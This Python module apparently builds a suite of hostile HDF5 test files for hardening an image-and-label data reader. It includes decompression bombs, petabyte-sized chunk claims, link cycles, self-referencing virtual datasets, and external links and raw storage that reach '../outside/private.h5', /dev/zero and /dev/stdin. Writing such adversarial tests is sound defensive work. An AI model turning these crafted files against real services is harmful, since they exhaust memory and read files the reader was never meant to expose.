"""Files made to harm: bombs, mazes of links, files that ask for other files, absurd shapes.

Each function writes into a folder beside which there is `outside/private.h5`, and returns the file
to read. What ever failed stands here, too, so that it is tried again.
"""

import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import hdf5plugin
import numpy as np

IMAGES = np.arange(4 * 20 * 20, dtype=np.float32).reshape(4, 20, 20) % 7
OUTSIDE = "../outside/private.h5"
BOMB_BYTES = 8 * 2**30

Attack = Callable[[Path], Path]
ATTACKS: dict[str, Attack] = {}


def attack(write: Callable[[h5py.File, Path], None]) -> Attack:
    """Registers a writer of one file."""

    def run(folder: Path) -> Path:
        path = folder / "case.h5"
        path.unlink(missing_ok=True)
        with h5py.File(path, "w") as file:
            write(file, folder)
        return path

    ATTACKS[write.__name__] = run
    return run


def gzip_bomb(size: int) -> bytes:
    """A zlib stream of zeros, `size` bytes unpacked; that its checksum is wrong shows too late."""
    packer = zlib.compressobj(9)
    block = packer.compress(bytes(2**26)) + packer.flush(zlib.Z_FULL_FLUSH)
    head, repeated = block[:2], block[2:]
    return head + repeated * (size // 2**26) + packer.flush()


def zstd_bomb(size: int) -> bytes:
    """A Zstandard frame of zeros: one header, then blocks of 4 bytes for 128 KiB each."""
    header = b"\x28\xb5\x2f\xfd" + bytes([0b1100_0000, 0x50]) + size.to_bytes(8, "little")
    block_bytes = 2**17
    n_blocks = size // block_bytes
    block = (block_bytes << 3 | 0b010).to_bytes(3, "little") + b"\0"
    last = (block_bytes << 3 | 0b011).to_bytes(3, "little") + b"\0"
    return header + block * (n_blocks - 1) + last


def _chunk(file: h5py.File, content: bytes, **options: Any) -> None:
    shape, chunks = (1, 20, 20), (1, 20, 20)
    dataset = file.create_dataset("phase/images", shape=shape, dtype="f4", chunks=chunks, **options)
    dataset.id.write_direct_chunk((0, 0, 0), content)


@attack
def gzip_chunk_that_unfolds(file: h5py.File, _: Path) -> None:
    _chunk(file, gzip_bomb(BOMB_BYTES), compression="gzip")


@attack
def zstandard_chunk_that_unfolds(file: h5py.File, _: Path) -> None:
    _chunk(file, zstd_bomb(BOMB_BYTES), **hdf5plugin.Zstd())


@attack
def zstandard_chunk_of_a_petabyte(file: h5py.File, _: Path) -> None:
    lie = bytearray(zstd_bomb(2**20))
    lie[6:14] = (2**50).to_bytes(8, "little")
    _chunk(file, bytes(lie), **hdf5plugin.Zstd())


@attack
def lz4_chunk_of_a_petabyte(file: h5py.File, _: Path) -> None:
    _chunk(file, (2**50).to_bytes(8, "big") + (2**30).to_bytes(4, "big") * 9, **hdf5plugin.LZ4())


@attack
def blosc_chunk_of_two_gigabytes(file: h5py.File, _: Path) -> None:
    lie = bytes([2, 1, 0, 4]) + (2**31 - 64).to_bytes(4, "little") * 2 + bytes(99)
    _chunk(file, lie, **hdf5plugin.Blosc())


@attack
def bomb_of_many_equal_images(file: h5py.File, _: Path) -> None:
    """Zeros pack a thousandfold: a million images in half a megabyte."""
    shape, chunks = (2**20, 96, 96), (2**12, 96, 96)
    dataset = file.create_dataset("phase/images", shape, "u1", chunks=chunks, compression=1)
    packed = zlib.compress(bytes(2**12 * 96 * 96))
    for start in range(0, shape[0], chunks[0]):
        dataset.id.write_direct_chunk((start, 0, 0), packed)


@attack
def bomb_of_one_image_mapped_a_million_times(file: h5py.File, _: Path) -> None:
    file["one"] = np.zeros((2**12, 48, 48), "u1")
    layout = h5py.VirtualLayout((2**21, 48, 48), "u1")
    for start in range(0, 2**21, 2**12):
        layout[start : start + 2**12] = h5py.VirtualSource(".", "one", (2**12, 48, 48))
    file.create_virtual_dataset("phase/images", layout)


@attack
def chunks_of_a_gigabyte(file: h5py.File, _: Path) -> None:
    shape = (2**16, 128, 128)
    file.create_dataset("phase/images", shape, "u1", chunks=(2**16, 128, 128), compression=1)
    packed = zlib.compress(bytes(2**30), 1)
    file["phase/images"].id.write_direct_chunk((0, 0, 0), packed)


@attack
def label_column_in_one_chunk_of_four_gigabytes(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES
    labels = file.create_dataset(
        "label/ground_truth", (4,), "S8", chunks=(2**28,), maxshape=(None,)
    )
    labels.id.write_direct_chunk((0,), b"rbc")


@attack
def labels_of_a_gigabyte_each(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES
    file.create_dataset("label/ground_truth", (4,), np.dtype("S1000000000"))


@attack
def long_text_that_all_labels_share(file: h5py.File, _: Path) -> None:
    count, text = 60_000, "x" * 2**20
    file.create_dataset("phase/images", (count, 4, 4), "u1", data=np.zeros((count, 4, 4), "u1"))
    labels = file.create_dataset("label/ground_truth", (count,), h5py.string_dtype())
    labels[0] = text
    labels.flush()
    offset = labels.id.get_offset()
    file.flush()
    with Path(file.filename).open("r+b") as raw:
        raw.seek(offset)
        first = raw.read(16)
        raw.seek(offset)
        raw.write(first * count)


@attack
def references_as_labels(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES
    file["label/ground_truth"] = np.array([file["phase"].ref] * 4, h5py.ref_dtype)


@attack
def region_references_as_labels(file: h5py.File, _: Path) -> None:
    file["phase/images"] = images = IMAGES
    region = file["phase/images"].regionref[0:2]
    file.create_dataset(
        "label/ground_truth", data=[region] * len(images), dtype=h5py.regionref_dtype
    )


@attack
def arrays_as_labels(file: h5py.File, _: Path) -> None:
    file["images"] = IMAGES
    labels = file.create_dataset("labels", (4,), h5py.vlen_dtype(np.dtype("f4")))
    labels[0] = np.zeros(9, "f4")


@attack
def fields_of_text_as_one_hot(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES
    file["label/celltype"] = np.zeros(4, [("rbc", "f4", (2, 2)), ("wbc", "f4")])


@attack
def group_as_column(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES
    file.create_dataset("meta/field_group", (2**40,), "S9", chunks=(8,))


@attack
def a_million_colours(file: h5py.File, _: Path) -> None:
    file.create_dataset("phase/images", (1, 20, 20, 10**6), "u1", compression=1, chunks=True)
    file["phase/images"][..., :4] = 1


@attack
def five_channels(file: h5py.File, _: Path) -> None:
    file["events/image"] = np.ones((3, 20, 20, 5), np.uint8)


@attack
def four_dimensional_phase(file: h5py.File, _: Path) -> None:
    file["phase/images"] = np.ones((3, 20, 20, 2), np.float32)
    file["mask/images"] = np.ones((3, 20, 20, 3), np.uint8)


@attack
def masks_with_enormous_numbers(file: h5py.File, _: Path) -> None:
    masks = np.zeros((2, 160, 160), np.uint32)
    masks[:, 20:40, 20:40] = 2**31 - 1
    masks[:, 60:90, 60:90] = 2**32 - 1
    file["phase/images"] = np.zeros((2, 160, 160), np.float32)
    file["mask/images"] = masks


@attack
def frame_of_a_hundred_thousand_objects(file: h5py.File, _: Path) -> None:
    frame = np.zeros((1, 2000, 2000), np.uint8)
    for row in range(5):
        for column in range(5):
            frame[:, row::6, column::6] = 1
    options: dict[str, Any] = {"compression": 9, "chunks": (1, 2000, 2000)}
    file.create_dataset("phase/images", data=5 * frame.astype("f2"), **options)
    file.create_dataset("mask/images", data=frame, **options)


@attack
def infinite_and_missing_values(file: h5py.File, _: Path) -> None:
    images = np.full((6, 160, 160), np.nan, np.float64)
    images[1] = np.inf
    images[2] = -np.inf
    images[3] = 1e300
    images[4, ::2] = -1e300
    file["phase/images"] = images
    file["amplitude/images"] = images
    file["mask/images"] = images


@attack
def pictures_of_infinite_brightness(file: h5py.File, _: Path) -> None:
    file["images"] = np.full((3, 20, 20, 3), np.inf)


@attack
def images_of_complex_numbers(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES.astype(complex)


@attack
def long_doubles(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES.astype(np.longdouble)
    file["amplitude/images"] = IMAGES.astype(np.longdouble)


@attack
def truth_values_as_images(file: h5py.File, _: Path) -> None:
    file["phase/images"] = IMAGES > 3
    file["amplitude/images"] = IMAGES > 3


@attack
def empty_dataspace(file: h5py.File, _: Path) -> None:
    file["phase/images"] = h5py.Empty("f4")
    file["label/ground_truth"] = h5py.Empty("S3")
    file["meta/field_group"] = h5py.Empty("S3")


@attack
def scalar_everywhere(file: h5py.File, _: Path) -> None:
    for name in ("events/image", "events/qpi_pha", "events/mask", "labels", "qpi_0/phase/raw"):
        file[name] = 3.5


@attack
def columns_of_one_dimension(file: h5py.File, _: Path) -> None:
    for name in ("events/image", "events/qpi_pha", "events/mask", "events/image_bg"):
        file[name] = np.zeros(4)


@attack
def series_with_endless_number(file: h5py.File, _: Path) -> None:
    file["qpi_" + "9" * 5000 + "/phase/raw"] = IMAGES[0]


@attack
def five_thousand_groups_in_each_other(file: h5py.File, _: Path) -> None:
    group = file["/"]
    for _depth in range(5000):
        group = group.create_group("g")
    group["images"] = IMAGES


@attack
def names_that_are_no_text(file: h5py.File, _: Path) -> None:
    space = h5py.h5s.create_simple((4, 20, 20))
    h5py.h5d.create(file.id, b"im\xff\xfeages", h5py.h5t.IEEE_F32LE, space)
    file["[/red][link=x]"] = IMAGES
    file["\N{ESCAPE}[31m"] = np.zeros(3)


@attack
def unknown_kind_of_type(file: h5py.File, _: Path) -> None:
    space = h5py.h5s.create_simple((4, 20, 20))
    h5py.h5d.create(file.id, b"images", h5py.h5t.UNIX_D32LE, space)


@attack
def soft_links_that_double(file: h5py.File, _: Path) -> None:
    """Each link goes ten times through the one before it: ten to the fourteenth steps."""
    file["s0"] = h5py.SoftLink("/")
    for number in range(1, 15):
        file[f"s{number}"] = h5py.SoftLink("/" + f"s{number - 1}/" * 10)
    file["phase"] = h5py.SoftLink("/s14")
    file["images"] = IMAGES


@attack
def soft_links_in_a_circle(file: h5py.File, _: Path) -> None:
    file["phase"] = h5py.SoftLink("/phase/phase")
    file["a"] = h5py.SoftLink("/b")
    file["b"] = h5py.SoftLink("/a")


@attack
def hard_links_in_a_circle(file: h5py.File, _: Path) -> None:
    group = file.create_group("phase")
    for number in range(20):
        group[f"again{number}"] = group
        group[f"root{number}"] = file["/"]
    group["images"] = IMAGES


def _virtual(file: h5py.File, name: str, *sources: tuple[str, str]) -> None:
    layout = h5py.VirtualLayout((4 * len(sources), 20, 20), "f4")
    for number, (filename, path) in enumerate(sources):
        part = h5py.VirtualSource(filename, path, (4, 20, 20))
        layout[4 * number : 4 * number + 4] = part
    file.create_virtual_dataset(name, layout)


@attack
def virtual_dataset_of_itself(file: h5py.File, _: Path) -> None:
    _virtual(file, "phase/images", (".", "phase/images"))


@attack
def virtual_datasets_of_each_other(file: h5py.File, _: Path) -> None:
    _virtual(file, "phase/images", (".", "b"))
    _virtual(file, "b", (".", "phase/images"))


@attack
def virtual_datasets_of_each_other_by_file_name(file: h5py.File, _: Path) -> None:
    _virtual(file, "phase/images", ("case.h5", "b"))
    _virtual(file, "b", ("case.h5", "phase/images"))


@attack
def virtual_datasets_that_multiply(file: h5py.File, _: Path) -> None:
    file["v0"] = IMAGES
    file["w0"] = IMAGES
    for number in range(1, 16):
        for name in "vw":
            parts = ((".", f"v{number - 1}"), (".", f"w{number - 1}"))
            _virtual(file, f"{name}{number}", *parts)
    _virtual(file, "phase/images", (".", "v15"))


@attack
def virtual_dataset_behind_forty_others(file: h5py.File, _: Path) -> None:
    _virtual(file, "v0", (OUTSIDE, "phase/images"))
    for number in range(1, 40):
        _virtual(file, f"v{number}", (".", f"v{number - 1}"))
    _virtual(file, "phase/images", (".", "v39"))


@attack
def virtual_dataset_outside(file: h5py.File, _: Path) -> None:
    _virtual(file, "phase/images", (OUTSIDE, "phase/images"))


@attack
def virtual_dataset_outside_by_absolute_name(file: h5py.File, folder: Path) -> None:
    _virtual(file, "phase/images", (str((folder / OUTSIDE).resolve()), "phase/images"))


@attack
def virtual_dataset_with_a_numbered_name(file: h5py.File, _: Path) -> None:
    """HDF5 puts the number of the block for %b: what is checked is not what is read."""
    file["part%b"] = IMAGES
    file["part0"] = h5py.ExternalLink(OUTSIDE, "/phase/images")
    source = h5py.VirtualSource(".", "part%b", (4, 20, 20))
    unlimited = h5py.h5s.UNLIMITED
    space = h5py.h5s.create_simple((4, 20, 20), (unlimited, 20, 20))
    space.select_hyperslab((0, 0, 0), (unlimited, 1, 1), (4, 20, 20), (4, 20, 20))
    creation = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    creation.set_virtual(space, b".", b"part%b", source.sel.id)
    whole = h5py.h5s.create_simple((4, 20, 20), (h5py.h5s.UNLIMITED, 20, 20))
    group = file.create_group("phase")
    h5py.h5d.create(group.id, b"images", h5py.h5t.IEEE_F32LE, whole, creation)


@attack
def virtual_dataset_through_a_link_in_its_source(file: h5py.File, _: Path) -> None:
    file["link"] = h5py.ExternalLink(OUTSIDE, "/phase")
    _virtual(file, "phase/images", (".", "link/images"))


@attack
def external_link_outside(file: h5py.File, _: Path) -> None:
    file["phase"] = h5py.ExternalLink(OUTSIDE, "/phase")


@attack
def external_link_through_a_symbolic_link(file: h5py.File, folder: Path) -> None:
    near = folder / "near.h5"
    near.unlink(missing_ok=True)
    near.symlink_to(OUTSIDE)
    file["phase"] = h5py.ExternalLink("near.h5", "/phase")


@attack
def external_link_to_itself(file: h5py.File, _: Path) -> None:
    file["phase"] = h5py.ExternalLink("case.h5", "/phase")


@attack
def external_link_to_a_device(file: h5py.File, _: Path) -> None:
    file["phase"] = h5py.ExternalLink("/dev/zero", "/phase")
    file["amplitude"] = h5py.ExternalLink("/dev/stdin", "/phase")


def _raw(file: h5py.File, name: str, shape: tuple[int, ...]) -> None:
    file.create_dataset("phase/images", shape, "u1", external=[(name, 0, h5py.h5f.UNLIMITED)])


@attack
def raw_storage_outside(file: h5py.File, _: Path) -> None:
    _raw(file, OUTSIDE, (4, 20, 20))


@attack
def raw_storage_that_is_no_so_long(file: h5py.File, folder: Path) -> None:
    (folder / "raw.bin").write_bytes(bytes(100))
    _raw(file, str(folder / "raw.bin"), (2**40, 20, 20))


@attack
def dataset_of_a_trillion_images(file: h5py.File, _: Path) -> None:
    file.create_dataset("phase/images", (2**40, 48, 48), "f4", chunks=(64, 48, 48))
    file["phase/images"][:64] = 1


@attack
def small_image_count_but_endless_sides(file: h5py.File, _: Path) -> None:
    file.create_dataset("phase/images", (1, 2**40, 2**20), "f4", chunks=(1, 64, 64))
    file["phase/images"][0, :64, :64] = 1


@attack
def chunk_packed_by_n_bit(file: h5py.File, _: Path) -> None:
    creation = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    creation.set_chunk((1, 20, 20))
    creation.set_filter(h5py.h5z.FILTER_NBIT, h5py.h5z.FLAG_MANDATORY)
    space = h5py.h5s.create_simple(IMAGES.shape)
    group = file.create_group("phase").id
    packed = h5py.h5d.create(group, b"images", h5py.h5t.NATIVE_FLOAT, space, creation)
    packed.write(h5py.h5s.ALL, h5py.h5s.ALL, IMAGES)


def fill_value_attack(folder: Path) -> Path:
    """A fill value longer than the pixels of the missing chunks that it is to fill."""
    path = folder / "case.h5"
    path.unlink(missing_ok=True)
    with h5py.File(path, "w") as file:
        options = {"chunks": (1, 1000, 1000), "dtype": "u1", "fillvalue": 7}
        images = file.create_dataset("phase/images", (4, 1000, 1000), **options)
        images[:3] = 1
    content = bytearray(path.read_bytes())
    message = b"\x02\x03\x02\x01" + (1).to_bytes(4, "little") + b"\x07"
    assert content.count(message) == 1  # version, allocation, writing, defined; length; value
    at = content.index(message) + 4
    content[at : at + 4] = (8).to_bytes(4, "little")
    path.write_bytes(content)
    return path


def virtual_fill_value_attack(folder: Path) -> Path:
    """The same behind a virtual dataset."""
    near = fill_value_attack(folder).rename(folder / "near.h5")
    path = folder / "case.h5"
    with h5py.File(path, "w") as file:
        layout = h5py.VirtualLayout((4, 1000, 1000), "u1")
        layout[:] = h5py.VirtualSource(near.name, "phase/images", (4, 1000, 1000))
        file.create_virtual_dataset("phase/images", layout)
    return path


ATTACKS["fill_value_longer_than_a_pixel"] = fill_value_attack
ATTACKS["fill_value_behind_a_virtual_dataset"] = virtual_fill_value_attack


def working_directory_attack(folder: Path) -> Path:
    """Raw storage with a relative name: HDF5 looks for it where the command was started."""
    inner = folder / "inner"
    inner.mkdir(exist_ok=True)
    (inner / "private.h5").write_bytes(bytes(2**16))
    path = inner / "case.h5"
    path.unlink(missing_ok=True)
    with h5py.File(path, "w") as file:
        _raw(file, "private.h5", (4, 20, 20))
    return path


ATTACKS["raw_storage_in_the_working_directory"] = working_directory_attack
